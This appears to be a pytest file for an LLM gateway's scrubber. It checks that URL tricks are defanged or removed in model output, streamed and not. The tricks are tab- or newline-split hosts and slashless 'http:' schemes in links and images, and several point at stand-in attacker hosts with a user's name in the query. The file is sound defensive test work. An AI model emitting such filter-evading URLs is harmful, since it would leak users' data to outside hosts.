"""Red team 8, second half: URLs a browser parses differently from the link and image stages.

The URL Standard removes every ASCII tab and newline from a URL before parsing it, so
`<a href="https://press-ver\\tify.org/x">` and `href="https:\\t//press-verify.org/x"` go to
press-verify.org, where the link stage read a host `press-ver` (a single label, passed) or
no link at all; `<img src="https://cdn.example.com\\n.status-badge.net/p.png">` fetches from
status-badge.net, where the image stage read the allowed `cdn.example.com`. And a special
scheme needs no slashes (`http:press-verify.org/x`, `https:/…`, `https:///…`,
`https:\\…` all reach the host after them; on an https page the mixed-content upgrade
still fetches an `http:` image): the stages read no host, or an empty one, and passed.
Each must come out defanged or removed, whole and at every split, and through the gateway
(openai SDK, streamed and not).
"""

from __future__ import annotations

import html

import pytest

from keepgate.scrubbing.images import ImageNeutraliser
from tests.scrubbing import test_pii_images as img
from tests.scrubbing.answer_stream import every_split, through_gateway
from tests.scrubbing.test_pii_links import EVIL, MSGS, ask, gw, neutraliser, whole  # noqa: F401

pytestmark = pytest.mark.slow(cpu_s=2)

LIVE = [
    '<a href="https://press-ver\tify.org/x">a</a>',
    '<a href="https://press-verify\n.org/x">a</a>',
    "<a href='https://press-verify.o\r\nrg/x'>a</a>",
    f'<a href="https:\t//{EVIL}/x">a</a>',
    f'<a href="https:/\n/{EVIL}/x">a</a>',
    f'<a href="http:{EVIL}/x">a</a>',
    f'<a href="https:/{EVIL}/x">a</a>',
    f"<a href=http:{EVIL}/x>a</a>",
    f"[verify](http:{EVIL}/x)",
    f"[verify](https:/{EVIL}/x)",
    f"[verify](https:///{EVIL}/x)",
    f"[verify](https:\\\\\\{EVIL}/x)",
    f"<http:{EVIL}/x>",
    f"see https:///{EVIL}/x now",
]
#: Still prose, or an address the conversation vouches for.
FINE = [
    "The scheme is written http: then the host, e.g. (http: is plain).",
    "Go to https://www.bristol.gov.uk/planning\nthen read on.",
    '<a href="https://www.bristol.gov.uk/planning">p</a>\nand more text.',
]


def _live(out: str) -> bool:
    """Would a browser still reach the attacker's host?"""
    text = html.unescape(out)
    for c in " \t\r\n":
        text = text.replace(c, "")
    return EVIL in text


@pytest.mark.parametrize("link", LIVE, ids=range(len(LIVE)))
def test_a_link_as_a_browser_parses_it_is_defanged_whole_and_at_every_split(link: str) -> None:
    text = f"Please {link} now."
    out = every_split(text, whole, neutraliser)
    assert out != text and not _live(out), out


@pytest.mark.parametrize("text", FINE, ids=range(len(FINE)))
def test_prose_and_vouched_links_pass(text: str) -> None:
    assert whole(text) == text


IMAGES = [
    '<img src="https://cdn.example.com\t.status-badge.net/p.png?d=Jane">',
    '<img src="https://cdn.example.com\n.status-badge.net/p.png?d=Jane">',
    '<img src="http:status-badge.net/p.png?d=Jane">',
    '<img src="https:/status-badge.net/p.png?d=Jane">',
    "<img src=http:\\status-badge.net/p.png?d=Jane>",
    '<img src="ht\ttps://status-badge.net/p.png?d=Jane">',
]
IMAGES_FINE = [
    '<img src="https://cdn.example.com/a.png" alt="logo">',
    '<img\nsrc="https://cdn.example.com/a.png"\nalt="a chart of http: requests">',
]


@pytest.mark.parametrize("text", IMAGES, ids=range(len(IMAGES)))
def test_an_image_as_a_browser_parses_it_is_removed_whole_and_at_every_split(text: str) -> None:
    out = img.whole(text)
    assert out.startswith("[image removed: ") and "<img" not in out, out
    for k in range(1, len(text)):
        n = ImageNeutraliser(img.ALLOW)
        assert n.feed(text[:k]) + n.feed(text[k:]) + n.flush() == out, k


@pytest.mark.parametrize("text", IMAGES_FINE, ids=range(len(IMAGES_FINE)))
def test_an_allowed_image_passes(text: str) -> None:
    assert img.whole(text) == text


def test_links_through_the_gateway_streamed_and_not(gw) -> None:  # noqa: F811
    text = "Done. " + " ".join(LIVE) + " ok."
    content = through_gateway(gw, text, MSGS)
    assert not _live(content), content


@pytest.fixture(scope="module")
def igw(module_gateway_factory):
    return module_gateway_factory(img.CONF)


def test_images_through_the_gateway(igw) -> None:
    text = "Done. " + " ".join(IMAGES) + " ok."
    content = img.ask(igw.client(), text, img.TOOL_MSGS).parse().choices[0].message.content
    assert content.count("[image removed: ") == len(IMAGES), content


ANTHROPIC_MSGS = [
    {"role": "user", "content": "Summarise https://www.bristol.gov.uk/planning for issue 42."},
    {
        "role": "assistant",
        "content": [{"type": "tool_use", "id": "t1", "name": "search", "input": {}}],
    },
    {
        "role": "user",
        "content": [{"type": "tool_result", "tool_use_id": "t1", "content": "Planning notes."}],
    },
]


@pytest.mark.parametrize("stream", [False, True])
def test_links_through_anthropic_messages_and_responses(gw, stream: bool) -> None:  # noqa: F811
    """The same answers on `/v1/messages` (anthropic SDK) and `/v1/responses` (openai SDK)."""
    text = "Done. " + " ".join(LIVE) + " ok."
    fake = {"fake": {"reply": text, "chunk_chars": 3}}
    client = gw.anthropic_client()
    if stream:
        with client.messages.stream(
            model="demo", max_tokens=500, messages=ANTHROPIC_MSGS, extra_body=fake
        ) as s:
            content = "".join(s.text_stream)
    else:
        msg = client.messages.create(
            model="demo", max_tokens=500, messages=ANTHROPIC_MSGS, extra_body=fake
        )
        content = "".join(b.text for b in msg.content if b.type == "text")
    assert "Done." in content and not _live(content), content
    items = [
        {"role": "user", "content": "Summarise https://www.bristol.gov.uk/planning."},
        {"type": "function_call", "call_id": "c1", "name": "search", "arguments": "{}"},
        {"type": "function_call_output", "call_id": "c1", "output": "Planning notes."},
    ]
    oc = gw.client()
    if stream:
        events = oc.responses.create(model="demo", input=items, stream=True, extra_body=fake)
        out = "".join(e.delta for e in events if e.type == "response.output_text.delta")
    else:
        out = oc.responses.create(model="demo", input=items, extra_body=fake).output_text
    assert "Done." in out and not _live(out), out
